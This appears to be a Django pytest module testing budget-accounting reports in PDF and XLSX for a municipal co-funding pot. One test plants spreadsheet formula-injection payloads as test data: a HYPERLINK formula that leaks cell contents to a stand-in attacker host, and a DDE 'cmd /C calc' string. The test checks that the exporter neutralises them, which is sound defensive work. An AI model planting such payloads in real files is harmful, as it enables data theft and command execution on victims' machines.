"""The budgetverantwoording of a pot over a period (issue 9 point 4). (Helper
"budgetverantwoording".)

One pot with a known history, each event on a known day (``time_machine``), so the
numbers of every period can be worked out by hand:

===========  ==========================================================================
2026-01-15   the ``budgetpot`` fixture: gemeente € 50.000 money (received), organisatie
             € 30.000 money (pledged); the action ``actie`` (A)
2026-01-20   organisatie pledges 40 hours at € 62,50 (€ 2.500); gemeente € 1.500 in kind
2026-02-01   A gets € 20.000 and B € 5.000, both approved; B € 3.000 more, rejected;
             C € 1.000, only proposed
2026-02-10   expense B € 5.000 (B closes as spent)
2026-03-10   expense A € 8.000
2026-04-01   the fund holder receives organisatie's € 30.000
2026-06-15   expense A € 2.000
2026-07-01   gemeente withdraws its € 1.500 in kind
===========  ==========================================================================
"""

from __future__ import annotations

import io
from datetime import date, datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import translation
from django.utils.translation import gettext

import pytest
import time_machine
from openpyxl import load_workbook

from budget.models import Bijdrage, Budgetpot, Toewijzing
from budget.services import (
    bijdrage_intrekken,
    bijdrage_ontvangen,
    bijdrage_toevoegen,
    toewijzing_beantwoorden,
    toewijzing_voorstellen,
    uitgave_boeken,
)
from opgaven.models import Actie, Betrokkenheid
from partners.models import Organisatie
from partners.services import organisatie_create
from rapportage import bouwers
from rapportage.bouwers.budget import bouw_pdf, bouw_xlsx
from rapportage.models import Formaat, Rapport, Soort
from rapportage.permissions import can_request
from rapportage.selectors_budget import budgetverantwoording

pytestmark = pytest.mark.django_db

D = Decimal
AMS = ZoneInfo("Europe/Amsterdam")
AANVAL = '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik")'
EURO = '"€" #,##0.00;"€" -#,##0.00'


def op(dag: date):
    """Travel to noon of ``dag`` (Amsterdam), the clock standing still."""
    return time_machine.travel(datetime(dag.year, dag.month, dag.day, 12, tzinfo=AMS), tick=False)


def goedkeuren(toewijzing: Toewijzing, door, *, nee: int | None = None) -> None:
    for goedkeuring in toewijzing.goedkeuringen.all():
        afwijzen = goedkeuring.organisatie_id == nee
        toewijzing_beantwoorden(
            goedkeuring=goedkeuring,
            akkoord=not afwijzen,
            reden="Past niet in het plan." if afwijzen else "",
            door=door,
        )


def nieuwe_actie(actie: Actie, titel: str) -> Actie:
    return Actie.objects.create(
        opgave=actie.opgave, plan=actie.plan, titel=titel, trekker=actie.trekker
    )


@pytest.fixture
def pot(request, regisseur, partner_lid):
    """``budgetpot`` with the history in the module docstring; ``pot.acties`` = A, B, C."""
    with op(date(2026, 1, 15)):
        pot = request.getfixturevalue("budgetpot")
        a = request.getfixturevalue("actie")
        gemeente = request.getfixturevalue("gemeente")
        organisatie = request.getfixturevalue("organisatie")
        b = nieuwe_actie(a, "Energiecoaches aan huis")
        c = nieuwe_actie(a, "Straatgesprekken over de planning")
    with op(date(2026, 1, 20)):
        bijdrage_toevoegen(
            pot=pot,
            organisatie=organisatie,
            soort=Bijdrage.Soort.UREN,
            uren=D("40"),
            uurtarief=D("62.50"),
            door=partner_lid,
        )
        natura = bijdrage_toevoegen(
            pot=pot,
            organisatie=gemeente,
            soort=Bijdrage.Soort.NATURA,
            waarde=D("1500.00"),
            door=regisseur,
            omschrijving="Zaal in het wijkcentrum",
        )
    with op(date(2026, 2, 1)):
        ta = toewijzing_voorstellen(pot=pot, actie=a, bedrag=D("20000.00"), door=regisseur)
        goedkeuren(ta, regisseur)
        tb = toewijzing_voorstellen(pot=pot, actie=b, bedrag=D("5000.00"), door=regisseur)
        goedkeuren(tb, regisseur)
        afgewezen = toewijzing_voorstellen(pot=pot, actie=b, bedrag=D("3000.00"), door=regisseur)
        goedkeuren(afgewezen, regisseur, nee=organisatie.pk)
        toewijzing_voorstellen(pot=pot, actie=c, bedrag=D("1000.00"), door=regisseur)
    with op(date(2026, 2, 10)):
        uitgave_boeken(
            toewijzing=tb,
            bedrag=D("5000.00"),
            datum=date(2026, 2, 10),
            omschrijving="Opleiding",
            door=regisseur,
        )
    with op(date(2026, 3, 10)):
        uitgave_boeken(
            toewijzing=ta,
            bedrag=D("8000.00"),
            datum=date(2026, 3, 10),
            omschrijving="Blok A",
            door=regisseur,
        )
    with op(date(2026, 4, 1)):
        bijdrage_ontvangen(
            bijdrage=pot.bijdragen.get(organisatie=organisatie, soort="geld"), door=regisseur
        )
    with op(date(2026, 6, 15)):
        uitgave_boeken(
            toewijzing=ta,
            bedrag=D("2000.00"),
            datum=date(2026, 6, 15),
            omschrijving="Blok B",
            door=regisseur,
        )
    with op(date(2026, 7, 1)):
        bijdrage_intrekken(bijdrage=natura, door=regisseur, reden="De zaal is verbouwd.")
    assert Toewijzing.objects.get(pk=afgewezen.pk).status == Toewijzing.Status.AFGEWEZEN
    pot.refresh_from_db()
    pot.acties = (a, b, c)
    pot.gemeente, pot.organisatie = gemeente, organisatie
    return pot


def rapport_voor(pot, formaat: str, van: date | None = None, tot: date | None = None) -> Rapport:
    return Rapport(soort=Soort.BUDGET, formaat=formaat, pot=pot, periode_van=van, periode_tot=tot)


def bouwen(bouw, rapport: Rapport, taal: str = "nl") -> tuple[bytes, str, list[int]]:
    uit = io.BytesIO()
    stappen: list[int] = []
    with translation.override(taal):
        naam = bouw(rapport, uit, stappen.append)
    return uit.getvalue(), naam, stappen


def werkboek(inhoud: bytes):
    return load_workbook(io.BytesIO(inhoud))


def waarden(blad) -> list[list]:
    return [[cel.value for cel in rij] for rij in blad.iter_rows()]


# --- The numbers ----------------------------------------------------------------------


def test_the_numbers_of_the_whole_period(pot):
    a, b, _c = pot.acties
    cijfers = budgetverantwoording(pot)

    assert (cijfers.periode.van, cijfers.periode.tot) == (date(2026, 1, 1), date(2027, 12, 31))
    assert not cijfers.periode.gekozen
    # Only approved allocations are budgeted: the rejected € 3.000 and proposed C are not.
    assert [
        (r.actie_id, r.begroot, r.gerealiseerd, r.afwijking, r.afwijking_procent)
        for r in cijfers.acties
    ] == [
        (a.pk, D("20000.00"), D("10000.00"), D("-10000.00"), D("-50.0")),
        (b.pk, D("5000.00"), D("5000.00"), D("0.00"), D("0.0")),
    ]
    assert (cijfers.begroot, cijfers.gerealiseerd, cijfers.afwijking) == (
        D("25000.00"),
        D("15000.00"),
        D("-10000.00"),
    )
    assert cijfers.afwijking_procent == D("-40.0")
    assert cijfers.besteed_buiten_periode == 0

    partners = {r.naam: r for r in cijfers.partners}
    gemeente, woonstichting = partners["Gemeente Demodam"], partners["Woonstichting Demodam"]
    assert (gemeente.toegezegd, gemeente.ingetrokken, gemeente.ontvangen) == (
        D("51500.00"),
        D("1500.00"),
        D("50000.00"),
    )
    assert (gemeente.begroot, gemeente.afwijking) == (D("50000.00"), D("0.00"))
    assert (woonstichting.toegezegd, woonstichting.ingetrokken, woonstichting.ontvangen) == (
        D("32500.00"),
        D("0"),
        D("30000.00"),
    )
    assert woonstichting.afwijking == D("-2500.00")

    co = cijfers.cofinanciering
    assert [(r.naam, r.geld, r.uren, r.natura, r.ontvangen) for r in co.partners] == [
        ("Gemeente Demodam", D("50000.00"), D("0"), D("0"), D("50000.00")),
        ("Woonstichting Demodam", D("30000.00"), D("2500.00"), D("0"), D("30000.00")),
    ]
    assert co.totaal == D("82500.00") == pot.bijgedragen  # the pot agrees at the end
    assert [aandeel for _, aandeel in co.rijen] == [D("60.6"), D("39.4")]
    assert co.per_soort == {"geld": D("80000.00"), "uren": D("2500.00"), "natura": D("0")}
    assert co.aandeel_per_soort == {"geld": D("97.0"), "uren": D("3.0"), "natura": D("0.0")}
    assert cijfers.aantal_boekingen == pot.boekingen.count()
    assert not cijfers.leeg


def test_the_period_filters_expenses_contribution_events_and_the_ledger(pot):
    a, b, _c = pot.acties
    cijfers = budgetverantwoording(pot, van=date(2026, 3, 1), tot=date(2026, 5, 31))

    assert cijfers.periode.gekozen
    # The budget stays what was approved; only the expenses of the period are realised.
    assert [
        (r.actie_id, r.begroot, r.gerealiseerd, r.afwijking_procent) for r in cijfers.acties
    ] == [
        (a.pk, D("20000.00"), D("8000.00"), D("-60.0")),
        (b.pk, D("5000.00"), D("0"), D("-100.0")),
    ]
    assert cijfers.besteed_buiten_periode == D("7000.00")  # B on 10 Feb, A on 15 June
    # Only the receipt of 1 April happened to the contributions in the period.
    assert [(r.naam, r.toegezegd, r.ingetrokken, r.ontvangen) for r in cijfers.partners] == [
        ("Woonstichting Demodam", D("0"), D("0"), D("30000.00"))
    ]
    assert cijfers.partners[0].afwijking_procent is None  # nothing budgeted in the period
    # At the end of May the gemeente's goods still counted (withdrawn on 1 July).
    co = cijfers.cofinanciering
    assert [(r.naam, r.totaal, r.natura) for r in co.partners] == [
        ("Gemeente Demodam", D("51500.00"), D("1500.00")),
        ("Woonstichting Demodam", D("32500.00"), D("0")),
    ]
    assert co.totaal == D("84000.00")
    assert cijfers.aantal_boekingen == 2  # the expense of 10 March and the receipt


def test_an_open_end_of_the_period_is_the_pots_own(pot):
    cijfers = budgetverantwoording(pot, van=date(2026, 6, 1))
    assert (cijfers.periode.van, cijfers.periode.tot) == (date(2026, 6, 1), date(2027, 12, 31))
    assert cijfers.gerealiseerd == D("2000.00")
    cijfers = budgetverantwoording(pot, tot=date(2026, 2, 28))
    assert cijfers.periode.van == date(2026, 1, 1)
    assert cijfers.gerealiseerd == D("5000.00")


def test_a_period_with_nothing_in_it_is_an_empty_state(pot):
    cijfers = budgetverantwoording(pot, van=date(2025, 1, 1), tot=date(2025, 12, 31))
    assert cijfers.leeg
    assert cijfers.gerealiseerd == 0
    assert cijfers.partners == []
    assert cijfers.cofinanciering.partners == []
    assert cijfers.aantal_boekingen == 0

    inhoud, _naam, _ = bouwen(
        bouw_xlsx, rapport_voor(pot, "xlsx", date(2025, 1, 1), date(2025, 12, 31))
    )
    boek = werkboek(inhoud)
    assert len(boek.worksheets) == 4
    grootboek = waarden(boek.worksheets[3])
    assert len(grootboek) == 1  # the header only


# --- The PDF --------------------------------------------------------------------------


@pytest.fixture
def pdf_tekst(monkeypatch):
    """The text WeasyPrint laid out for the last PDF, page by page (no pypdf here)."""
    import weasyprint

    paginas: list[str] = []
    origineel = weasyprint.HTML.render

    def render(self, *args, **kwargs):
        document = origineel(self, *args, **kwargs)
        paginas[:] = [
            " ".join(_teksten(pagina._page_box)).replace("\u00a0", " ") for pagina in document.pages
        ]
        return document

    monkeypatch.setattr(weasyprint.HTML, "render", render)
    return paginas


def _teksten(box):
    if getattr(box, "text", None):
        yield box.text
    for kind in getattr(box, "children", ()):
        yield from _teksten(kind)


def test_the_pdf_holds_the_numbers_the_charts_and_the_ledger(pot, pdf_tekst):
    inhoud, naam, stappen = bouwen(bouw_pdf, rapport_voor(pot, "pdf"), taal="en")

    assert inhoud.startswith(b"%PDF")
    assert naam.startswith("budgetverantwoording-samen-van-het-gas-af-") and naam.endswith(".pdf")
    assert stappen and all(0 <= s < 100 for s in stappen)
    tekst = " ".join(pdf_tekst)
    for verwacht in (
        "Budget account: Samen van het gas af",
        "What the numbers mean",
        "Isolatie van 300 huurwoningen",
        "€ 20.000,00",  # budgeted A
        "€ 10.000,00",  # realised A
        "€ -10.000,00",  # difference A
        "-50.0 %",  # floatformat follows the language: English here
        "Energiecoaches aan huis",
        "Contributions per partner in the period",
        "€ 51.500,00",  # the gemeente pledged, in kind included
        "Cofinancing",
        "60.6 %",
        "97.0 %",  # money's share
        "Appendix: the ledger of the period",
        "Allocation approved",
        "Blok A",  # the expense's description, in the ledger's (stored) text
    ):
        assert verwacht in tekst, verwacht
    per_actie = tekst.split("Contributions per partner in the period")[0]
    assert "Straatgesprekken" not in per_actie  # only proposed: not budgeted
    assert "Nothing was recorded in this period" not in tekst
    assert len(pdf_tekst) >= 2
    bijlage = tekst.split("Appendix: the ledger of the period")[1]
    assert bijlage.count("Allocation proposed") == 4
    assert f"{pot.boekingen.count()} ledger entries" in bijlage


def test_the_pdf_has_two_charts_each_with_its_table(pot):
    from rapportage.bouwers.budget import pdf_context

    cijfers = budgetverantwoording(pot)
    with translation.override("en"):
        context = pdf_context(cijfers)
    assert context["grafiek_acties"].startswith("data:image/svg+xml;base64,")
    assert context["grafiek_cofinanciering"].startswith("data:image/svg+xml;base64,")

    from django.template.loader import render_to_string

    with translation.override("en"):
        html = render_to_string(
            "rapportage/pdf/budgetverantwoording.html",
            {**context, "grootboek": [], "print_css": ""},
        )
    assert html.count('<img class="grafiek"') == 2
    assert html.count("alt=") == 2
    assert html.count("<table>") == 5  # about, per action, per partner, cofinancing, ledger


def test_the_pdf_of_an_empty_period_says_so(pot, pdf_tekst):
    inhoud, _naam, _ = bouwen(
        bouw_pdf, rapport_voor(pot, "pdf", date(2025, 1, 1), date(2025, 12, 31)), taal="en"
    )
    assert inhoud.startswith(b"%PDF")
    tekst = " ".join(pdf_tekst)
    assert "Nothing was recorded in this period (1 January 2025 to 31 December 2025)" in tekst
    assert "No contributions were pledged, received or withdrawn in this period." in tekst
    assert "No ledger entries were recorded in this period." in tekst
    assert "At the end of the period no partner contributed to the pot." in tekst


def test_a_pot_without_anything_builds_too(opgave, gemeente, pdf_tekst):
    from budget.services import pot_aanmaken

    leeg = pot_aanmaken(
        opgave=opgave,
        naam="Lege pot",
        kassier=gemeente,
        begin=date(2026, 1, 1),
        eind=date(2026, 12, 31),
    )
    inhoud, _naam, _ = bouwen(bouw_pdf, rapport_voor(leeg, "pdf"), taal="en")
    assert "No money from the pot has been approved for an action yet." in " ".join(pdf_tekst)
    inhoud, _naam, _ = bouwen(bouw_xlsx, rapport_voor(leeg, "xlsx"))
    boek = werkboek(inhoud)
    assert [len(waarden(blad)) for blad in boek.worksheets] == [2, 2, 5, 1]


# --- The XLSX -------------------------------------------------------------------------


def test_the_workbook_has_four_sheets_with_numbers_in_euro(pot):
    inhoud, naam, _ = bouwen(bouw_xlsx, rapport_voor(pot, "xlsx"))
    assert naam.endswith(".xlsx")
    boek = werkboek(inhoud)
    with translation.override("nl"):
        verwacht = [gettext(t) for t in ("Per action", "Per partner", "Cofinancing", "Ledger")]
    assert boek.sheetnames == verwacht
    per_actie, per_partner, cofinanciering, grootboek = boek.worksheets

    rijen = waarden(per_actie)
    assert rijen[1] == ["Isolatie van 300 huurwoningen", 20000, 10000, -10000, -0.5]
    assert rijen[2] == ["Energiecoaches aan huis", 5000, 5000, 0, 0]
    assert rijen[3][1:] == [25000, 15000, -10000, -0.4]
    assert len(rijen) == 4
    assert per_actie["B2"].number_format == EURO
    assert per_actie["D2"].number_format == EURO
    assert per_actie["E2"].number_format == "0.0%"
    assert per_actie["A1"].font.b  # the header is bold

    rijen = waarden(per_partner)
    assert rijen[1] == ["Gemeente Demodam", 51500, 1500, 50000, 50000, 0, 0]
    assert rijen[2] == [
        "Woonstichting Demodam",
        32500,
        0,
        32500,
        30000,
        -2500,
        pytest.approx(-2500 / 32500),
    ]
    assert per_partner["B2"].number_format == EURO

    rijen = waarden(cofinanciering)
    assert rijen[1] == ["Gemeente Demodam", 50000, 0, 0, 50000, 50000, pytest.approx(50000 / 82500)]
    assert rijen[2] == [
        "Woonstichting Demodam",
        30000,
        2500,
        0,
        32500,
        30000,
        pytest.approx(32500 / 82500),
    ]
    assert rijen[3][1:] == [80000, 2500, 0, 82500, 80000, 1]
    # The split by kind: amount in the Total column, share in the Share column.
    assert [(r[4], r[6]) for r in rijen[4:]] == [
        (80000, pytest.approx(80000 / 82500)),
        (2500, pytest.approx(2500 / 82500)),
        (0, 0),
    ]
    assert cofinanciering["G2"].number_format == "0.0%"
    assert cofinanciering["E5"].number_format == EURO

    rijen = waarden(grootboek)
    assert len(rijen) - 1 == pot.boekingen.count()
    assert [r[0] for r in rijen[1:]] == sorted(r[0] for r in rijen[1:])  # oldest first
    assert grootboek["G2"].number_format == EURO
    assert grootboek["B2"].number_format == "yyyy-mm-dd hh:mm"
    assert isinstance(grootboek["G2"].value, int | float)


def test_the_workbook_follows_the_period(pot):
    inhoud, _naam, _ = bouwen(
        bouw_xlsx, rapport_voor(pot, "xlsx", date(2026, 3, 1), date(2026, 5, 31))
    )
    per_actie, per_partner, _co, grootboek = werkboek(inhoud).worksheets
    assert waarden(per_actie)[1][:3] == ["Isolatie van 300 huurwoningen", 20000, 8000]
    assert waarden(per_partner)[1] == ["Woonstichting Demodam", 0, 0, 0, 30000, 30000, None]
    assert len(waarden(grootboek)) == 3


def test_planted_formulas_stay_text(pot, regisseur):
    """A partner's name, an action's title and a description can start a formula."""
    kwaad = organisatie_create(naam=AANVAL, soort=Organisatie.Soort.BEDRIJF)
    Betrokkenheid.objects.create(
        opgave=pot.opgave, organisatie=kwaad, aard=Betrokkenheid.Aard.LEVERT_MIDDELEN
    )
    bijdrage_toevoegen(
        pot=pot,
        organisatie=kwaad,
        soort="geld",
        waarde=D("100.00"),
        door=regisseur,
        omschrijving="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    actie = nieuwe_actie(pot.acties[0], "+31 maatregelen")
    toewijzing = toewijzing_voorstellen(pot=pot, actie=actie, bedrag=D("50.00"), door=regisseur)
    goedkeuren(toewijzing, regisseur)
    uitgave_boeken(
        toewijzing=toewijzing,
        bedrag=D("10.00"),
        datum=date(2026, 7, 1),
        omschrijving="=1+2",
        door=regisseur,
    )
    inhoud, _naam, _ = bouwen(bouw_xlsx, rapport_voor(pot, "xlsx"))
    boek = werkboek(inhoud)

    gezien = 0
    for blad in boek.worksheets:
        for rij in blad.iter_rows():
            for cel in rij:
                assert cel.data_type != "f", (blad.title, cel.coordinate, cel.value)
                if isinstance(cel.value, str):
                    assert not cel.value.startswith(("=", "+", "-", "@", "\t", "\r"))
                    gezien += cel.value.startswith("'")
    assert gezien >= 5  # per partner, cofinancing, per action, ledger organisation and text
    namen = [r[0] for r in waarden(boek.worksheets[1])]
    assert "'" + AANVAL in namen
    assert "'+31 maatregelen" in [r[0] for r in waarden(boek.worksheets[0])]


def test_xlsx_schrijven_still_writes_one_sheet():
    from config.spreadsheets import xlsx_schrijven

    uit = io.BytesIO()
    aantal = xlsx_schrijven(
        uit, "Blad", ["Naam", "Bedrag"], [["=1+1", D("2.50")]], euro_kolommen=[1]
    )
    boek = werkboek(uit.getvalue())
    assert aantal == 1
    assert boek.sheetnames == ["Blad"]
    assert waarden(boek.active) == [["Naam", "Bedrag"], ["'=1+1", 2.5]]
    assert boek.active["B2"].number_format == EURO


# --- Queries --------------------------------------------------------------------------


def _acties_erbij(pot, regisseur, aantal: int, start: int) -> None:
    basis = Actie.objects.filter(opgave=pot.opgave).first()
    for n in range(start, start + aantal):
        actie = nieuwe_actie(basis, f"Actie {n}")
        toewijzing = toewijzing_voorstellen(
            pot=pot, actie=actie, bedrag=D("100.00"), door=regisseur
        )
        goedkeuren(toewijzing, regisseur)
        uitgave_boeken(
            toewijzing=toewijzing,
            bedrag=D("40.00"),
            datum=date(2026, 7, 1),
            omschrijving=f"Uitgave {n}",
            door=regisseur,
        )


def _tellen(functie) -> int:
    with CaptureQueriesContext(connection) as vastgelegd:
        functie()
    return len(vastgelegd)


def test_queries_do_not_grow_with_the_number_of_actions(budgetpot, actie, regisseur):
    def alles():
        cijfers = budgetverantwoording(budgetpot)
        bouwen(bouw_xlsx, rapport_voor(budgetpot, "xlsx"))
        return cijfers

    _acties_erbij(budgetpot, regisseur, 1, 1)
    een = _tellen(alles)
    selector_een = _tellen(lambda: budgetverantwoording(budgetpot))
    _acties_erbij(budgetpot, regisseur, 4, 2)
    vijf = _tellen(alles)
    assert len(budgetverantwoording(budgetpot).acties) == 5
    assert een == vijf
    assert selector_een == _tellen(lambda: budgetverantwoording(budgetpot)) == 4


def test_the_pdf_queries_do_not_grow_with_the_number_of_actions(budgetpot, actie, regisseur):
    def pdf():
        # As the engine loads it (rapportage.services.rapport_maken): a fresh pot.
        pot = Budgetpot.objects.select_related("opgave").get(pk=budgetpot.pk)
        bouwen(bouw_pdf, rapport_voor(pot, "pdf"))

    _acties_erbij(budgetpot, regisseur, 1, 1)
    een = _tellen(pdf)
    _acties_erbij(budgetpot, regisseur, 4, 2)
    vijf = _tellen(pdf)
    assert een == vijf


# --- Through the request page and the engine ------------------------------------------


def aanvraag_url(pot) -> str:
    return f"{reverse('rapportage:aanvragen')}?soort=budgetverantwoording&pot={pot.opgave.slug}"


def aanvragen(client, pot, **velden):
    """POST the request form: the subject travels in its hidden fields."""
    gegevens = {"soort": "budgetverantwoording", "pot": pot.opgave.slug, **velden}
    return client.post(reverse("rapportage:aanvragen"), gegevens)


def test_both_formats_are_registered():
    assert bouwers.formaten(Soort.BUDGET) == [Formaat.PDF, Formaat.XLSX]


def test_a_partner_who_sees_the_pot_may_request_it_a_resident_may_not(
    budgetpot, partner_lid, inwoner, partner_buitenstaander, client
):
    assert can_request(partner_lid, Soort.BUDGET, budgetpot)
    assert not can_request(inwoner, Soort.BUDGET, budgetpot)
    assert not can_request(partner_buitenstaander, Soort.BUDGET, budgetpot)

    client.force_login(partner_lid)
    antwoord = client.get(aanvraag_url(budgetpot))
    assert antwoord.status_code == 200
    assert b'name="periode_van"' in antwoord.content

    client.force_login(inwoner)
    assert client.get(aanvraag_url(budgetpot)).status_code == 404
    assert aanvragen(client, budgetpot, formaat="pdf").status_code == 404
    assert not Rapport.objects.exists()


@pytest.mark.parametrize(
    ("persona", "ziet_link"),
    [
        ("partner_lid", True),  # contact person of an involved organisation
        ("regisseur", True),
        ("ambtenaar", True),
        ("partner_buitenstaander", False),  # not involved: no pot for them
        ("inwoner", False),
    ],
)
def test_the_budget_page_links_to_the_request_exactly_when_can_request_holds(
    budgetpot, client, request, persona, ziet_link
):
    user = request.getfixturevalue(persona)
    pagina = reverse("budget:pot", kwargs={"slug": budgetpot.opgave.slug})
    link = (
        f'href="{reverse("rapportage:aanvragen")}?soort=budgetverantwoording&amp;'
        f'pot={budgetpot.opgave.slug}"'
    )
    client.force_login(user)
    antwoord = client.get(pagina)
    assert can_request(user, Soort.BUDGET, budgetpot) is ziet_link
    assert (link in antwoord.content.decode()) is ziet_link
    if ziet_link:
        assert antwoord.status_code == 200
        assert client.get(link[6:-1].replace("&amp;", "&")).status_code == 200


def test_the_requested_period_reaches_the_builder(
    pot, partner_lid, client, django_capture_on_commit_callbacks
):
    client.force_login(partner_lid)
    with django_capture_on_commit_callbacks(execute=True):
        antwoord = aanvragen(
            client, pot, formaat="xlsx", periode_van="2026-03-01", periode_tot="2026-05-31"
        )
    rapport = Rapport.objects.get()
    assert antwoord.status_code == 302
    assert (rapport.periode_van, rapport.periode_tot) == (date(2026, 3, 1), date(2026, 5, 31))
    assert rapport.status == Rapport.Status.KLAAR, rapport.fout
    assert rapport.bestandsnaam.startswith("budgetverantwoording-")
    per_actie = werkboek(rapport.bestand.read()).worksheets[0]
    assert waarden(per_actie)[1][2] == 8000  # realised within March to May only

    download = client.get(reverse("rapportage:download", kwargs={"pk": rapport.pk}))
    assert download.status_code == 200


def test_a_period_that_ends_before_it_starts_is_refused_in_dutch(budgetpot, partner_lid, client):
    client.force_login(partner_lid)
    antwoord = aanvragen(
        client, budgetpot, formaat="pdf", periode_van="2026-06-01", periode_tot="2026-05-01"
    )
    assert antwoord.status_code == 400
    with translation.override("nl"):
        fout = gettext("The end of the period lies before its start.")
    assert fout in antwoord.content.decode()
    assert not Rapport.objects.exists()


def test_a_pdf_of_the_whole_period_is_made_through_the_engine(
    pot, partner_lid, client, django_capture_on_commit_callbacks
):
    client.force_login(partner_lid)
    with django_capture_on_commit_callbacks(execute=True):
        aanvragen(client, pot, formaat="pdf")
    rapport = Rapport.objects.get()
    assert rapport.status == Rapport.Status.KLAAR, rapport.fout
    assert rapport.bestand.read().startswith(b"%PDF")
